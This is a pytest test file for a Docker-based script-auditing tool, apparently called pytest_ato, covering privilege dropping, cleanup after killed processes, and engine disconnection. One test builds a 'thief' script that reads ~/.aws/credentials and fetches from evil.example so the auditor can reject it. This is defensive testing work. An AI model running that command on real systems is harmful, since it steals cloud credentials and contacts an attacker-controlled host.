"""How it ends when something dies: pytest, the container, capture, the engine.

Nothing stays behind, nothing hangs, nothing is green.
"""

from __future__ import annotations

import grp
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from pytest_ato.audit import Auditor, Options, Outcome
from pytest_ato.model.verdict import Verdict
from pytest_ato.runtime.docker import owner
from pytest_ato.runtime.docker.engine import Engine
from pytest_ato.runtime.docker.runtime import DockerRuntime
from pytest_ato.target import resolve

pytestmark = pytest.mark.docker

NOBODY = 65534
WITHIN = 5.0
"""Seconds in which all is gone after pytest was killed."""


def eventually(condition: Callable[[], object], within: float = 60.0) -> bool:
    deadline = time.monotonic() + within
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


def cgroups() -> set[str]:
    """Directories of audits in this machine's cgroup trees."""
    return {top for top, _, _ in os.walk("/sys/fs/cgroup") if "/pytest-ato-" in top}


def running(words: str) -> list[int]:
    """Processes with `words` in their command line."""
    found = []
    for path in Path("/proc").iterdir():
        if path.name.isdecimal():
            try:
                line = (path / "cmdline").read_bytes()
            except OSError:
                continue
            if words.encode() in line:
                found.append(int(path.name))
    return found


def of(engine: Engine, pid: int) -> list[str]:
    """Ids of the audit containers that process `pid` started."""
    found = engine.containers(all=True, filters={"label": owner.LABEL})
    return [one["Id"] for one in found if one["Labels"][owner.LABEL].split()[-2] == str(pid)]


@pytest.fixture
def as_nobody(host: str, image: str, tmp_path_factory) -> Callable[..., subprocess.Popen[str]]:
    """Start pytest as a user whose only right is the engine's socket."""
    path = Path(host.removeprefix("unix://"))
    group = path.stat().st_gid
    assert group != 0, f"the engine's socket is of no group: {grp.getgrall()}"
    folder = tmp_path_factory.mktemp("nobody")
    for place in (folder, *folder.parents):
        if place != Path("/"):
            place.chmod(place.stat().st_mode | 0o011)
    os.chown(folder, NOBODY, NOBODY)

    def start(*words: str) -> subprocess.Popen[str]:
        return subprocess.Popen(
            [
                # Its files may lie where that user may not look: it may read, and no more.
                *("setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", f"--groups={group}"),
                *("--inh-caps=-all,+dac_read_search", "--ambient-caps=-all,+dac_read_search"),
                *("--bounding-set=-all,+dac_read_search", "--no-new-privs"),
                *(sys.executable, "-P", "-m", "pytest", "-p", "no:cacheprovider", "-rA"),
                f"--rootdir={folder}",
                *words,
            ],
            cwd=folder,
            env={"PATH": os.environ["PATH"], "HOME": str(folder), "DOCKER_HOST": host},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            start_new_session=True,
        )

    return start


def test_pytest_needs_no_root(as_nobody, script) -> None:
    """`auto` finds that there is no root here, and an engine, and says so."""
    target = script("cat ~/.aws/credentials; wget -q -O- http://evil.example/", name="thief")
    process = as_nobody(f"--ato-target={target}", "--ato-report-dir=reports")
    said, _ = process.communicate(timeout=300)
    assert process.returncode == 1, said
    assert "ato: docker runtime (no root here, but a container engine)" in said
    assert "thief: REJECT" in said
    assert "honeytoken_read" in said


def test_pytest_killed_leaves_nothing(as_nobody, script, engine: Engine) -> None:
    before = cgroups()
    target = script("exec sleep 7331", name="sleeper")
    process = as_nobody(f"--ato-target={target}", "--ato-report-dir=killed")
    try:
        assert eventually(lambda: running("sleep\x007331"), 120), process.communicate()[0]
        assert of(engine, process.pid)
        assert cgroups() - before
        os.kill(process.pid, signal.SIGKILL)
        killed = time.monotonic()
        process.wait()
        gone = lambda: not (running("sleep\x007331") or of(engine, process.pid))  # noqa: E731
        assert eventually(lambda: gone() and not cgroups() - before, WITHIN * 4)
        print(f"gone after {time.monotonic() - killed:.1f} s")
    finally:
        process.kill()
        process.communicate()


class Meanwhile:
    """Audits a script, and does something while it runs."""

    def __init__(self, place: Path, script: Callable[..., Path]) -> None:
        self.runtime = DockerRuntime("auto", grace=20)
        self.auditor = Auditor(report_dir=place, runtime=self.runtime)
        self._script = script

    def __call__(self, act: Callable[[], object], seconds: str = "7332") -> Outcome:
        def wait_and_act() -> None:
            if eventually(lambda: running(f"sleep\0{seconds}")):
                act()

        thread = threading.Thread(target=wait_and_act)
        thread.start()
        target = resolve(str(self._script(f"exec sleep {seconds}", name="sleeper")))
        try:
            return self.auditor.audit(target, Options(timeout=60, network="none"))
        finally:
            thread.join()


@pytest.fixture(scope="module")
def meanwhile(image: str, tmp_path_factory, script) -> Iterator[Meanwhile]:
    made = Meanwhile(tmp_path_factory.mktemp("ends"), script)
    yield made
    made.auditor.close()


def inconclusive(outcome: Outcome) -> str:
    assert outcome.report.verdict is Verdict.INCONCLUSIVE
    return " ".join(outcome.report.inconclusive)


def test_a_container_that_is_killed(meanwhile: Meanwhile, engine: Engine) -> None:
    before = cgroups()
    outcome = meanwhile(lambda: engine.kill(meanwhile.runtime.container.id))
    assert "the audit container was killed, or ran out of memory" in inconclusive(outcome)
    assert eventually(lambda: not running("sleep\x007332"), 10)
    assert eventually(lambda: not cgroups() - before, 10)


def test_a_container_that_is_removed(meanwhile: Meanwhile, engine: Engine) -> None:
    outcome = meanwhile(lambda: engine.remove_container(meanwhile.runtime.container.id, force=True))
    assert "the audit container" in inconclusive(outcome)
    assert not running("sleep\x007332")


def test_capture_in_it_that_is_killed(meanwhile: Meanwhile, engine: Engine) -> None:
    before = cgroups()

    def kill_capture() -> None:
        top = engine.inspect_container(meanwhile.runtime.container.id)["State"]["Pid"]
        children = Path(f"/proc/{top}/task/{top}/children").read_text().split()
        os.kill(int(children[0]), signal.SIGKILL)

    outcome = meanwhile(kill_capture)
    assert "capture was killed by signal 9" in inconclusive(outcome)
    assert eventually(lambda: not cgroups() - before, 10)


def test_a_new_container_serves_the_next_audit(meanwhile: Meanwhile, script) -> None:
    outcome = meanwhile.auditor.audit(resolve(str(script("exit 0", name="next"))), Options())
    assert outcome.report.verdict is Verdict.APPROVE


class Relay:
    """Stands between us and the engine, and can go away as an engine does."""

    def __init__(self, path: Path, engine: str) -> None:
        self.host = f"unix://{path}"
        self._engine = engine.removeprefix("unix://")
        self._server = socket.socket(socket.AF_UNIX)
        self._server.bind(str(path))
        self._server.listen()
        self._open: list[socket.socket] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            other = socket.socket(socket.AF_UNIX)
            other.connect(self._engine)
            self._open += [client, other]
            for one, two in ((client, other), (other, client)):
                threading.Thread(target=self._carry, args=(one, two), daemon=True).start()

    def _carry(self, one: socket.socket, two: socket.socket) -> None:
        with suppress(OSError):
            while data := one.recv(1 << 16):
                two.sendall(data)
            two.shutdown(socket.SHUT_WR)

    def vanish(self) -> None:
        for each in (self._server, *self._open):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
            each.close()


def test_an_engine_that_goes_away(
    host: str, image: str, script, tmp_path: Path, engine: Engine, monkeypatch
) -> None:
    relay = Relay(tmp_path / "relay", host)
    monkeypatch.setenv("DOCKER_HOST", relay.host)
    audits = Meanwhile(tmp_path / "reports", script)
    outcome = audits(relay.vanish, "7333")
    assert "the container engine went away" in inconclusive(outcome)
    audits.auditor.close()
    assert eventually(lambda: not running("sleep\x007333"), 20)


def test_what_a_dead_session_left_is_swept(image: str, engine: Engine) -> None:
    """As an engine leaves it that was restarted: created, running for nobody."""
    label = owner.own().rsplit(" ", 1)[0] + " 1"
    dead = engine.create_container(
        image, entrypoint=["sleep", "1000"], labels={owner.LABEL: label}
    )["Id"]
    alive = engine.create_container(
        image, entrypoint=["sleep", "1000"], labels={owner.LABEL: owner.own()}
    )["Id"]
    foreign = engine.create_container(
        image, entrypoint=["sleep", "1000"], labels={owner.LABEL: "other-machine pid:[1] 1 1"}
    )["Id"]
    try:
        owner.sweep(engine)
        left = {one["Id"] for one in engine.containers(all=True)}
        assert dead not in left
        assert {alive, foreign} <= left
    finally:
        for each in (alive, foreign):
            engine.remove_container(each, force=True)
